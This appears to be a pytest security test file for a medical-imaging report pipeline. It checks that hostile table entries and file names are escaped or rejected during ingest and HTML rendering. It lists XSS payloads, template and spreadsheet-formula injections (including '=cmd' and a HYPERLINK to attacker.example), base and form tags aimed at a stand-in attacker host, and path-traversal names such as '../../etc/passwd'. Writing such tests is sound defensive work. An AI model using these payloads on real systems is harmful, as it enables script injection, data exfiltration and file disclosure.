"""A table that means harm: through the real ingest, and what is left of it in the report that a browser shows.

Nothing here trains: the report's other numbers are those of `test_report`.
"""

from __future__ import annotations

import dataclasses
import json
from collections import Counter
from collections.abc import Mapping
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet
import pytest
from browsing import asked_of_network, show
from PIL import Image
from running import run_job
from selenium import webdriver
from test_bad_input import Cohort, cohort_in, ingested_in, noise, sentence
from test_report import example

from pipeline import report
from pipeline.artifact import Artifact
from pipeline.cohorts.table import CohortError, listing
from pipeline.config import Table
from pipeline.estimate import Estimate
from pipeline.privacy.gate import FAIL, Verdict

SCRIPT = "<script>window.pwned = 1; alert(1)</script>"
PAYLOADS = {
    "script": SCRIPT,
    "end of a script": f"</script>{SCRIPT}",
    "end of a style": f"</style>{SCRIPT}",
    "end of a title": f"</title>{SCRIPT}",
    "end of an attribute": '"><img src=x onerror="window.pwned = 1">',
    "end of another attribute": "'><svg onload='window.pwned = 1'>",
    "an attribute": '" onmouseover="window.pwned = 1" autofocus onfocus="window.pwned = 1',
    "a link": "javascript:window.pwned=1",
    "a template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "a comment": "--><script>window.pwned = 1</script><!--",
    "a new base": '<base href="https://attacker.example/"><form action="https://attacker.example/">',
    "a request": '<img src="https://attacker.example/x.png"><link rel=stylesheet href="//attacker.example/x.css">',
    "a formula": "=cmd|' /C calc'!A1",
    "other formulas": "+1+1; -1+1; @SUM(A1); \t=1+1",
    "backwards": "\u202e\u2066tneitap",
    "control characters": "a\x01\x1b[31mb",
    "a long text": "A" * 20_000,
}
FORMULAS = ("=cmd|' /C calc'!A1", "=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("https://attacker.example")')


@pytest.fixture(scope="module")
def ingested(tmp_path_factory: pytest.TempPathFactory) -> tuple[Cohort, Artifact]:
    """A cohort with payloads in texts and patients, and images outside its folder, after ingest."""
    folder = tmp_path_factory.mktemp("hostile")
    cohort = cohort_in(folder)
    cohort.recipe["ingest"]["k_anonymity"] = 1  # nothing is rare, so that all that may cross does
    for payload, row in zip(PAYLOADS.values(), cohort.rows, strict=False):
        row["text"] = payload
    for number, payload in enumerate(PAYLOADS.values()):
        for row in cohort.rows[2 * number : 2 * number + 2]:
            row["patient_id"] = payload[:200]
    secret = folder / "secret.png"
    Image.fromarray(noise(5000)).save(secret)
    (cohort.root / "way out").symlink_to(folder)
    for name in ("../secret.png", "../../etc/passwd", str(secret), "a/../../secret.png", "..\\secret.png",
                 "linked.png", "way out/secret.png", "https://attacker.example/x.png", "x\0y.png"):  # fmt: skip
        cohort.add(name, "patient 59")
    (cohort.root / "linked.png").symlink_to(secret)
    cohort.add("drawn.png", "patient 59").write_bytes(
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 99 99\nshowpage\n"
    )
    cohort.write()
    answer = run_job("ingest", folder / "store", recipe=cohort.file)
    assert answer.returncode == 0, answer.stderr
    return cohort, ingested_in(folder / "store")


def test_no_path_leads_out_of_the_cohorts_folder(ingested: tuple[Cohort, Artifact]) -> None:
    rejected = Counter(ingested[1].facts["rejected"])
    assert rejected["image path outside the root"] == 5
    assert rejected["image path outside the root, by a link"] == 2
    assert rejected["image file missing"] == 2
    assert (
        rejected["unreadable image: UnidentifiedImageError"] == 1
    )  # no PostScript, which Pillow gives to Ghostscript
    assert rejected.total() == 10


def test_a_link_that_stays_in_the_folder_is_read(tmp_path: Path) -> None:
    (tmp_path / "films").mkdir()
    Image.fromarray(noise(1)).save(tmp_path / "films" / "a.png")
    (tmp_path / "b.png").symlink_to("films/a.png")
    (tmp_path / "metadata.csv").write_text("image,patient_id,labels\nb.png,1,Edema\n")
    assert listing(Table(text=None), tmp_path, 1).rows["source"].to_pylist() == ["b.png"]


def test_prompts_hold_words_and_no_markup(ingested: tuple[Cohort, Artifact]) -> None:
    prompts = [prompt for prompt in ingested[1].table("records")["prompt"].to_pylist() if prompt]
    assert prompts
    for prompt in prompts:
        assert not set(prompt) & set('<>"`={}|\\@\t\n\x01\x1b\u202e\u2066'), prompt[:80]
        assert prompt[0].isalnum() and len(prompt) < 10_000


@pytest.mark.parametrize("name", [*(text for text in PAYLOADS.values() if "\n" not in text), *FORMULAS, "a/b"])
def test_a_finding_whose_name_could_be_anything_else_is_refused(name: str, tmp_path: Path) -> None:
    Image.fromarray(noise(1)).save(tmp_path / "a.png")
    rows = pa.table({"image": ["a.png"], "patient_id": ["1"], "labels": [f"Edema~{name}~Mass"]})
    pa.parquet.write_table(rows, tmp_path / "metadata.parquet")
    with pytest.raises(CohortError, match=r"finding .*: want a name of up to 80 .* got something else — rename it"):
        listing(Table(file="metadata.parquet", label_separator="~", text=None), tmp_path, 1)


def test_a_refused_name_is_told_in_one_sentence(tmp_path: Path) -> None:
    cohort = cohort_in(tmp_path)
    for row in cohort.rows:
        row["edema"] = f"Edema|{SCRIPT}\u202e"
    cohort.recipe["ingest"]["table"] = {"labels": "edema"}
    cohort.write()
    told = sentence(run_job("ingest", tmp_path / "store", recipe=cohort.file))
    assert "finding" in told and "\u202e" not in told


def poisoned(payload: str, facts: Mapping[str, object], *, custodian: bool) -> report.Report:
    """A report with the payload wherever text of a table or a recipe could stand, and what ingest counted."""
    clean = example(custodian=custodian)
    metrics = dict(clean.metrics) | {
        f"utility/student/auroc_{payload}": Estimate(0.8, 0.7, 0.9, 100),
        f"privacy/student/reid_ratio_finding_{payload}": Estimate(0.1, 0.0, 0.2, 100),
    }
    rejected = facts["rejected"]
    assert isinstance(rejected, dict)
    private = clean.private and dataclasses.replace(
        clean.private,
        grids={payload: np.zeros((1, 8, 8, 1), np.uint8)},
        pairs={payload: next(iter(clean.private.pairs.values()))},
        ledger=[report.LedgerRow(payload, 3, payload, 0.5)],
    )
    return dataclasses.replace(
        clean,
        name=payload,
        date=payload,
        recipe=json.dumps({"name": payload}),
        guarantee=payload,
        metrics=metrics,
        verdicts=[Verdict(payload, FAIL, payload, payload, payload)],
        cleared=False,
        grids={payload: np.zeros((2, 8, 8, 1), np.uint8)},
        dropped=[report.Drop("ingest: images", reason, n, 99) for reason, n in rejected.items()]
        + [report.Drop(payload, payload, 1, 2)],
        kept_by_class={payload: (10, 4)},
        steps=[report.StepRow(payload, payload, 1, 1.0, True, payload)],
        caveats=[payload],
        private=private,
    )


@pytest.mark.parametrize("name", PAYLOADS)
def test_the_report_shows_a_payload_as_text_and_does_nothing_of_it(
    name: str, ingested: tuple[Cohort, Artifact], browser: webdriver.Chrome, tmp_path: Path
) -> None:
    for custodian in (True, False):
        page = tmp_path / f"{custodian}.html"
        page.write_text(report.render(poisoned(PAYLOADS[name], ingested[1].facts, custodian=custodian)))
        show(browser, page.as_uri())
        assert browser.execute_script("return window.pwned") is None
        assert browser.get_log("browser") == [] and asked_of_network(browser) == []
        counts = browser.execute_script(
            "return ['script', 'base', 'form', 'iframe', 'object', 'embed', 'link[rel=stylesheet]', '[onerror]',"
            " '[onload]', '[onfocus]', '[onmouseover]', 'a[href^=javascript]']"
            ".map(s => document.querySelectorAll(s).length)"
        )
        assert sum(counts) == 0
        assert browser.title.endswith("privacy distillation report")


def test_a_script_that_got_past_the_escaping_would_not_run(browser: webdriver.Chrome, tmp_path: Path) -> None:
    page = report.render(example())
    put = page.replace(
        "<main>", f'<main>{SCRIPT}<img src="https://attacker.example/x.png" onerror="window.pwned = 2">'
    )
    without = put.replace("Content-Security-Policy", "X-Nothing").replace("alert(1)", "")
    (tmp_path / "with.html").write_text(put)
    (tmp_path / "without.html").write_text(without)
    show(browser, (tmp_path / "without.html").as_uri())
    assert browser.execute_script("return window.pwned")  # the control: the payload works
    browser.get_log("browser")
    show(browser, (tmp_path / "with.html").as_uri())
    assert browser.execute_script("return window.pwned") is None
    assert all("Content Security Policy" in line["message"] for line in browser.get_log("browser"))
